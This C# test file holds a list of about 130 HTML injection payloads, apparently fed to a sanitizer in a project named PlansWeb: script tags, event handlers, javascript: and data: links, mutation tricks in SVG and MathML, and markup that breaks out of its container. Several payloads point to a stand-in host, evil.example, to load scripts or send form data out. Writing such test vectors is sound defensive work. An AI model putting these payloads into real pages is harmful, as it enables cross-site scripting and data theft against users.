namespace PlansWeb.Tests.Infrastructure;

/// <summary>Raw HTML that tries to run a script, to load or send something elsewhere, or to leave its element.</summary>
internal static class AttackVectors
{
    /// <summary>All of them.</summary>
    public static readonly string[] All =
    [
        // Scripts
        "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<script>alert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>", "<script\u000Calert(1)</script>", "<<script>alert(1)//<</script>", "<script>a='<!--<script>';alert(1)</script>", "</script><script>alert(1)</script>",

        // Handlers
        "<img src=x onerror=alert(1)>", "<img src=x OnErRoR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x\nonerror\n=\nalert(1)>", "<img src=\"x\"onerror=alert(1)>",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<div onpointerover=alert(1)>x</div>", "<input onfocus=alert(1) autofocus>",
        "<a href=x onclick='alert(1)'>x</a>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<p onanimationstart=alert(1) style='animation:x'>x</p>", "<button popovertarget=x onbeforetoggle=alert(1)>x</button>", "<img alt=\"`><script>alert(1)</script>\" src=x>",

        // Addresses
        "<a href=javascript:alert(1)>x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>", "<a href=\"javascript&NewLine;:alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"blob:https://evil.example/x\">x</a>", "<a xlink:href=javascript:alert(1)>x</a>",
        "<img src=javascript:alert(1)>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img src=\"data:text/html;base64,PA==\">", "<img srcset=\"a.png 1x, javascript:alert(1) 2x\">",
        "<picture><source srcset=\"data:image/svg+xml,x\"><img src=a.png></picture>", "<blockquote cite=javascript:alert(1)>x</blockquote>", "<a href=x ping=https://evil.example/>x</a>", "<table background=javascript:alert(1)><td>x</table>",

        // Forms
        "<form action=javascript:alert(1)><button>x</button></form>", "<form action=https://evil.example/><input name=a></form>", "<form action=//evil.example/><input></form>", "<form action=/\\evil.example/><input></form>",
        "<form><button formaction=javascript:alert(1)>x</button></form>", "<form id=a></form><button form=a formaction=https://evil.example>x</button>", "<form><form action=https://evil.example><input></form></form>",
        "<input type=image src=javascript:alert(1)>", "<isindex action=javascript:alert(1) type=image>", "<textarea><img src=x onerror=alert(1)></textarea>", "<select><option><style></option></select><img src=x onerror=alert(1)></style>",

        // Frames and documents inside
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=data:text/html,x></iframe>", "<iframe src=\"java&Tab;script:alert(1)\" title=x></iframe>",
        "<iframe><img src=x onerror=alert(1)></iframe>", "<object data=javascript:alert(1)></object>", "<object data=\"data:text/html,x\"><img src=x onerror=alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>", "<frameset><frame src=javascript:alert(1)></frameset>", "<portal src=https://evil.example></portal>", "<base href=https://evil.example/>", "<base href=javascript:/a/+alert(1)//>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=import href=data:text/html,x>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",

        // Styles
        "<style>@import 'https://evil.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>", "<div style=\"-moz-binding:url(x)\">x</div>",
        "<p style=\"position:fixed;inset:0\">x</p>", "<style><img src=x onerror=alert(1)></style>", "<style></style\u000C><img src=x onerror=alert(1)>",

        // SVG, MathML, and what mutates between two readings
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<svg><use href=\"data:image/svg+xml,x#a\"/></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=javascript:alert(1)>x</math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<template><script>alert(1)</script></template>", "<template><img src=x onerror=alert(1)></template>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<noembed><img src=x onerror=alert(1)></noembed>", "<noframes><p title='</noframes><script>alert(1)</script>'>", "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->", "<!--a--!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=1?><img src=x onerror=alert(1)>", "<! a><img src=x onerror=alert(1)>",
        "<p title=\"--><img src=x onerror=alert(1)>\">x</p>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<a\u0000href=javascript:alert(1)>x</a>", "<img src=x on\u0000error=alert(1)>", "<x-element is=script>alert(1)</x-element>",

        // Getting out of the element that holds the page
        "</div></div></main></body></html><p>x</p>", "<div><div><div>x", "<table><tr><td>x", "<table><div><table><p>x</div></table>", "<ul><li><div><li>x</li></div></li></ul></div>", "<button><div><button>x</button></div></button>",
        "<p><button><p></button></p></div>x", "<a><table><a>x</table></div>", "<h2><div></h3></div>x", "<b><i><p></b></div></i>x", "<main></main></main><div>", "<object><button><object><button></div>"
    ];
}
